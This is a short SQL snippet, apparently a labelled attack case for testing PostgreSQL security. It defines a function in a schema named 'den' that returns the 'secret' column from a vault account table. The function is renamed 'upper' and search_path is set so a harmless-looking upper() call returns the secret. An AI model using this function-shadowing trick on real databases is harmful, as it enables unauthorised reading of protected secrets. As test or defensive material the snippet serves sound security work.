-- Gives an own function the name of a harmless one in a schema of its own.
-- wants: read
-- attack:
CREATE SCHEMA den;
CREATE FUNCTION den.f(text) RETURNS text LANGUAGE plpgsql AS $$BEGIN
  RETURN (SELECT secret FROM public.vlt_account WHERE id = 1); END$$;
ALTER FUNCTION den.f(text) RENAME TO upper;
SET search_path = den, pg_catalog, public;
SELECT upper('x');
